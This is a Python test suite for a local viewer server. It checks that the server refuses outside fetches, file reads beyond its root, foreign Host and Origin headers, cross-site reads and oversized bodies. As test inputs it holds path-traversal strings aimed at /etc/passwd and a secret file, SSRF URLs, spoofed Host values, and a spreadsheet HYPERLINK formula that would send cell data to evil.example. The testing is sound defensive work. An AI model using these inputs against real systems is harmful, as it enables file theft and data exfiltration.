"""The viewer's server: it answers nobody's page but its own, and asks nobody anything."""

import contextlib
import http.client
import json
import random
import re
import socket
import threading
import time
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import quote

import pytest
from starlette.responses import PlainTextResponse
from starlette.testclient import TestClient
from starlette.websockets import WebSocketDisconnect

from app import frame, viewer
from app.catalog import Catalog
from app.guard import MAX_BODY_BYTES, Guard
from app.votes import Polls
from tests.app.folders import make_run, make_scores

LOCAL = "127.0.0.1"
EVIL = "http://evil.example"
SECRET = "nobody may read this"
CONTENTS = (SECRET, "root:x:", "schema_version", "[project]")
"""Words of the files that are asked for below."""


class Served(NamedTuple):
    """A viewer in this process: its port and root, and whom the process tried to reach."""

    port: int
    root: Path
    asked: list[Any]

    def ask(self, path, method="GET", body=None, **headers):
        """The answer to a request whose path and headers are sent as they are."""
        connection = http.client.HTTPConnection(LOCAL, self.port, timeout=30)
        connection.request(
            method,
            path,
            None if body is None else json.dumps(body),
            {"Content-Type": "application/json", **headers},
        )
        return connection.getresponse()

    def send(self, events, session, data=None):
        """The server's answer to events, each with its values, all of one visitor."""
        for event, values in events.items():
            body = {"data": values, "fn_index": event, "event_data": data, "session_hash": session}
            assert self.ask("/gradio_api/queue/join", "POST", body).status in (200, 422)
        text = ""
        for line in self.ask(f"/gradio_api/queue/data?session_hash={session}"):
            text += line.decode()
            if "close_stream" in text:
                break
        assert text.count("process_completed") == len(events)
        return text


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """A viewer of one run, in a process that can reach nobody but it."""
    root = tmp_path_factory.mktemp("served") / "root"
    make_run(root / "lora")
    make_scores(root / "scores")
    (root.parent / "secret.txt").write_text(SECRET)
    (root / "link.txt").symlink_to(root.parent / "secret.txt")
    (root / "link").symlink_to(root.parent, target_is_directory=True)
    listener = socket.create_server((LOCAL, 0))
    port = listener.getsockname()[1]
    asked = []
    connect, look_up = socket.socket.connect, socket.getaddrinfo

    def connected(self, address):
        if address != (LOCAL, port):
            asked.append(address)
            raise ConnectionRefusedError(address)
        connect(self, address)

    def looked_up(host, *args, **more):
        if host not in (LOCAL, LOCAL.encode(), None):
            asked.append(host)
            raise socket.gaierror(host)
        return look_up(host, *args, **more)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(socket.socket, "connect", connected)
        patch.setattr(socket.socket, "connect_ex", connected)
        patch.setattr(socket, "getaddrinfo", looked_up)
        server = frame.server(Catalog(root), host=LOCAL, public=False, device=None)
        thread = threading.Thread(target=server.run, args=([listener],), daemon=True)
        thread.start()
        served = Served(port, root, asked)
        assert served.ask("/").status == 200
        assert asked == []
        yield served
        server.should_exit = True
        thread.join(20)


ADDRESSES = (
    *("http://example.com/a.png", "HTTPS://example.com/a.png", "//example.com/a.png"),
    *("ftp://example.com/a.png", "http://93.184.215.14/a.png", "http://[::1]/a.png"),
    f"http://{LOCAL}:9/a.png",
)
"""Addresses of a public server, by name and by number, and of this machine."""


def test_no_route_fetches_an_address(served):
    routes = ("/gradio_api/file=", "/gradio_api/file/", "/gradio_api//file/", "/file=", "/file/")
    routes += ("/gradio_api/proxy=", "/proxy=", "/gradio_api/stream/", "/static/", "/assets/")
    routes += ("/gradio_api/custom_component/", "/?__theme=dark&url=")
    for route in routes:
        for address in ADDRESSES:
            answer = served.ask(route + address)
            assert route.startswith("/?") or 400 <= answer.status < 500, route + address
    posted = ("/gradio_api/upload", "/upload", "/gradio_api/component_server", "/gradio_api/call/x")
    posted += ("/gradio_api/run/x", "/gradio_api/api/predict", "/gradio_api/vibe-edit/")
    posted += ("/gradio_api/process_recording", "/gradio_api/run-history/connect", "/login")
    for path in posted:
        assert served.ask(path, "POST", {"data": [], "fn_index": 0}).status == 403, path
    for path in ("/monitoring", "/gradio_api/deep_link", "/gradio_api/dev/reload", "/openapi.json"):
        assert served.ask(path).status == 403, path
    assert served.asked == []


def test_it_serves_no_file_tells_no_place_and_listens_here_alone(served):
    root = served.root
    asked = ["/etc/passwd", f"{root}/../secret.txt", f"{root}/link.txt", f"{root}/link/secret.txt"]
    asked += [f"{root}/lora/run.json", "pyproject.toml", "../../../../../../etc/passwd"]
    for route in ("/gradio_api/file=", "/file=", "/static/", "/assets/"):
        for path in asked:
            for text in dict.fromkeys((path, quote(path, safe=""))):
                answer = served.ask(route + text)
                assert 400 <= answer.status < 500, (answer.status, route, text)
                assert not any(word in answer.read().decode() for word in CONTENTS)
    config = served.ask("/config").read().decode()
    assert json.loads(config)["analytics_enabled"] is False
    for text in (config, served.ask("/").read().decode()):
        assert not [place for place in (str(root), str(Path.home())) if f"{place}/" in text]
    listening = Path("/proc/net/tcp").read_text(encoding="ascii").splitlines()[1:]
    own = {line.split()[1] for line in listening if line.split()[3] == "0A"}
    assert f"0100007F:{served.port:04X}" in own
    assert f"00000000:{served.port:04X}" not in own


def test_no_event_fetches_an_address(served):
    config = json.load(served.ask("/config"))
    events = {one["id"]: len(one["inputs"]) for one in config["dependencies"]}
    assert len(events) > 20
    meta = {"_type": "gradio.FileData"}
    ways = (  # in which an event can name a file of another server
        [{"path": address, "meta": meta} for address in ADDRESSES],
        [{"path": "a.png", "url": address, "meta": meta} for address in ADDRESSES],
        [{"path": at, "url": at, "is_stream": True, "meta": meta} for at in ADDRESSES],
    )
    for kind, files in enumerate(ways):
        file = {event: files[event % len(files)] for event in events}
        data = {event: [[file[event]], file[event]] * count for event, count in events.items()}
        values = {event: data[event][:count] for event, count in events.items()}
        served.send(values, f"visitor{kind}", files[0])
        for event, data in values.items():  # and those that do not wait in line
            body = {"data": data, "fn_index": event, "session_hash": f"visitor{kind}"}
            served.ask("/gradio_api/run/predict", "POST", body).read()
    assert served.asked == []


def test_a_vote_is_of_the_voter_who_began(served):
    config = json.load(served.ask("/config"))
    names = {one["id"]: one["props"].get("elem_id") for one in config["components"]}
    clicks = {names.get(one["targets"][0][0]): one for one in config["dependencies"]}

    def click(name, *values):
        return served.send({clicks[name]["id"]: values}, "visitor")

    fill = [
        one for one in config["dependencies"] if names.get(one["targets"][0][0]) == "frame-scores"
    ]
    served.send({one["id"]: [None] * len(one["inputs"]) for one in fill}, "visitor")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    for token in ("", "made up"):
        click("vote-left", token, None, formula)
    begun = click("vote-start", "scores", "", formula)
    (token,) = re.findall(r'data-ballot=\\"([0-9a-f]+)', begun)
    click("vote-left", token, {"voter": formula}, formula)
    (vote,) = Polls(Catalog(served.root), random.Random()).votes()
    assert re.fullmatch("[0-9a-f]{16}", vote.session)


@pytest.mark.parametrize(
    ("started", "host", "origin", "status"),
    [
        (LOCAL, "localhost:7860", None, 200),
        (LOCAL, "LOCALHOST", "http://localhost", 200),
        (LOCAL, "[::1]:7860", "http://[::1]:7860", 200),
        *((LOCAL, host, None, 403) for host in ("evil.example", "localhost.evil.example")),
        *((LOCAL, host, None, 403) for host in ("localhost@evil.example", "192.168.0.5:7860", "")),
        *((LOCAL, "localhost:7860", origin, 403) for origin in (EVIL, "http://localhost:7861")),
        *((LOCAL, "localhost:7860", origin, 403) for origin in ("http://127.0.0.1:7860", "null")),
        ("0.0.0.0", "192.168.0.5:7860", "http://192.168.0.5:7860", 200),
        ("0.0.0.0", "[fe80::1]:7860", None, 200),
        ("0.0.0.0", f"{socket.gethostname()}:7860", None, 200),
        ("0.0.0.0", "lab.example:7860", None, 403),
        ("0.0.0.0", "192.168.0.5:7860", "http://1.2.3.4:7860", 403),
        ("lab.example", "Lab.Example:7860", "https://lab.example:7860", 200),
        ("lab.example", "evil.example", None, 403),
    ],
)
def test_other_web_sites_are_refused(started, host, origin, status):
    client = TestClient(Guard(PlainTextResponse("here"), started, public=started != LOCAL))
    headers = {"Host": host} | ({} if origin is None else {"Origin": origin})
    for method in ("GET", "OPTIONS", "POST"):
        answer = client.request(method, "/config", headers=headers)
        assert answer.status_code == status
        assert ("frame-ancestors" in answer.headers.get("Content-Security-Policy", "")) == (
            status == 200
        )
    with pytest.raises(WebSocketDisconnect), client.websocket_connect("/", headers=headers):
        pass


def test_a_name_can_be_allowed_apart_from_the_address(tmp_path, capsys):
    guard = Guard(PlainTextResponse("here"), LOCAL, public=False, allowed_hosts=["Lab.Example"])
    client = TestClient(guard)
    for host, status in {
        "lab.example": 200,
        "lab.example:443": 200,
        "localhost:7860": 200,
        "www.lab.example": 403,
        "192.168.0.5": 403,
    }.items():
        assert client.get("/config", headers={"Host": host}).status_code == status, host
    for name in ("http://lab.example", "lab.example:80", "*", ""):
        assert viewer.main([str(tmp_path), "--allow_host", name]) == 2
        assert f"--allow_host {name}" in capsys.readouterr().err


def test_large_and_endless_bodies_are_refused_and_what_is_sent_is_not_printed(served, capfd):
    path, value = "/gradio_api/queue/join", "refused value "
    body = {"fn_index": 1, "session_hash": "large", "data": [value * (MAX_BODY_BYTES // 20)]}
    assert served.ask(path, "POST", body).status == 200
    body["data"] *= 2
    answer = served.ask(path, "POST", body)
    assert (answer.status, str(MAX_BODY_BYTES) in answer.read().decode()) == (413, True)
    connection = http.client.HTTPConnection(LOCAL, served.port, timeout=30)
    connection.request("POST", path, iter([b"a", b"b"]), encode_chunked=True)
    assert connection.getresponse().status == 411
    text = served.ask("/gradio_api/queue/data?session_hash=large").read().decode()
    assert "process_completed" in text  # without the values that the event needs
    for number in (-1, 10**9):
        event = {"fn_index": number, "session_hash": "large", "data": []}
        assert served.ask(path, "POST", event).status == 500
    with contextlib.suppress(http.client.IncompleteRead):  # of a session that there is not
        served.ask("/gradio_api/queue/data?session_hash=gone").read()
    time.sleep(0.2)
    printed = capfd.readouterr().err
    assert "KeyError: -1" in printed
    assert "Traceback" not in printed
    assert len(printed) < 2000


def test_no_answer_lets_another_web_site_read_it(served):
    own = f"{LOCAL}:{served.port}"
    for path in ("/", "/config", "/gradio_api/queue/data?session_hash=x"):
        about = {"Access-Control-Request-Method": "POST", "Host": own, "Origin": EVIL}
        answer = served.ask(path, "OPTIONS", **about)
        assert answer.status == 403, path
        assert not [name for name in answer.headers if "access-control" in name.lower()]
    answer = served.ask("/config", Origin=f"http://{own}")
    assert answer.status == 200
    assert answer.headers["Cross-Origin-Resource-Policy"] == "same-origin"
    for rule in ("frame-ancestors 'none'", "form-action 'none'", "base-uri 'self'"):
        assert rule in answer.headers["Content-Security-Policy"]
